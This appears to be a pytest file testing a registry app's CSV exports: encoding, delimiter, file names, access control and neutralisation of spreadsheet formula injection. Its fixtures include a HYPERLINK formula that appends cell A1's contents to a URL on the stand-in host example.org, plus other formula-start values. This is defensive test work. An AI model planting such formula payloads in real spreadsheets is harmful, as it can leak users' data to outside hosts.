"""CSV downloads: BOM, ';', parsable, formula injection neutralised, safe file names."""

from __future__ import annotations

import csv
import io
import re

import pytest

from app.extensions import db
from app.registry.export import neutralise
from tests.registry.conftest import add_body, add_proposal_body

FILENAME = re.compile(r'^attachment; filename="[a-z]+-\d{4}-\d{2}-\d{2}\.csv"$')


def _rows(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("value", ["=1+1", "+49 30 1234", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_get_an_apostrophe(value):
    assert neutralise(value) == "'" + value


def test_harmless_values_stay_as_they_are():
    assert neutralise("Kommunalgremium") == "Kommunalgremium"
    assert neutralise(None) == ""
    assert neutralise("a=b") == "a=b"


def test_registry_csv_is_public_parsable_and_safe(client, seeded):
    add_body(
        "boese",
        name='=HYPERLINK("https://example.org/?x="&A1;"klick")',
        lead="@Leitung",
        short_name="-1",
    )
    db.session.commit()
    response = client.get("/gremien/export.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert FILENAME.match(response.headers["Content-Disposition"])
    rows = _rows(response)
    assert rows[0][:3] == ["Schlüssel", "Name", "Kurzname"]
    assert len(rows) == 1 + len(seeded) + 1
    assert all(len(row) == len(rows[0]) for row in rows)
    evil = next(row for row in rows if row[0] == "boese")
    assert evil[1] == '\'=HYPERLINK("https://example.org/?x="&A1;"klick")'
    assert evil[2] == "'-1" and evil[10] == "'@Leitung"
    strategie = next(row for row in rows if row[0] == "kooperationsgruppe-strategie")
    assert strategie[8] == "31.10.2010" and strategie[11] == "aufgelöst"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_proposal_csv_is_for_the_office_only(client, web, seeded, user_factory):
    owner = user_factory("applicant", organisation="=Senatskanzlei")
    add_proposal_body(owner)
    db.session.commit()
    response = client.get("/gremien/antraege.csv")
    assert response.status_code == 302 and "/anmelden" in response.headers["Location"]
    web.login(user_factory("secretariat"))
    response = web.client.get("/gremien/antraege.csv")
    assert response.status_code == 200
    assert FILENAME.match(response.headers["Content-Disposition"])
    rows = _rows(response)
    assert rows[0] == [
        "Aktenzeichen",
        "Titel",
        "Art",
        "Status",
        "Organisation",
        "Angelegt",
        "Zuletzt geändert",
    ]
    assert rows[1][0].startswith("R-2026-") and rows[1][2] == "Projektgruppe"
    assert rows[1][3] == "Eingesetzt" and rows[1][4] == "'=Senatskanzlei"
    assert re.match(r"^\d{2}\.\d{2}\.\d{4}, \d{2}:\d{2} Uhr$", rows[1][5])
